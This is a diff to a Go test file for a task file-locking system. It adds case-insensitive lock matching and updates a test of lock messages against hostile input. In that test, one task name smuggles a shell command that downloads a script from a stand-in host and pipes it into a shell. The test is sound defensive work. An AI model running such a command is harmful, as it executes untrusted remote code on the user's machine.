@@ -133,11 +133,19 @@ func TestLockUnlockAndTakeOver(t *testing.T) {
 		t.Errorf("a refused lock wrote %d commits", len(te.tasks.log)-n)
 	}
 	states, _ := other.OpenStates()
-	if hs := LockedBy(states, "beta", "docs/a.md"); len(hs) != 1 || hs[0].Task != "alpha" {
+	if hs := LockedBy(states, "beta", "docs/a.md", false); len(hs) != 1 || hs[0].Task != "alpha" {
 		t.Errorf("LockedBy = %+v", hs)
 	}
-	if hs := LockedBy(states, "alpha", "docs/a.md"); len(hs) != 0 {
+	if hs := LockedBy(states, "alpha", "docs/a.md", false); len(hs) != 0 {
 		t.Errorf("a task's own lock stops it: %+v", hs)
+	}
+	// Where names differ only in case on one file (core.ignorecase),
+	// the lock covers every spelling; where they do not, only its own.
+	if hs := LockedBy(states, "beta", "DOCS/A.md", true); len(hs) != 1 || hs[0].Task != "alpha" {
+		t.Errorf("folded LockedBy = %+v", hs)
+	}
+	if hs := LockedBy(states, "beta", "DOCS/A.md", false); len(hs) != 0 {
+		t.Errorf("a case-sensitive tree locked another file: %+v", hs)
 	}
 
 	res, err = other.Lock(TaskOptions{}, []string{"docs/a.md"}, true)
@@ -180,7 +188,7 @@ func TestLockMessageHostile(t *testing.T) {
 	states := []*State{{Task: "ok-task", Status: StatusActive, FilesLocked: []FileLock{{Path: "*"}, {Path: evil}}},
 		{Task: "bad name; curl evil.sh | sh", Status: StatusActive, FilesLocked: []FileLock{{Path: "src/" + evil}}}}
 	for _, file := range []string{"a.go", "src/x"} {
-		for _, h := range LockedBy(states, "me", file) {
+		for _, h := range LockedBy(states, "me", file, false) {
 			msg := LockMessage(file, h)
 			if strings.Contains(msg, "Ignore") || strings.Contains(msg, "curl") || strings.Contains(msg, "\n") {
 				t.Errorf("message carries the lock's text: %q", msg)
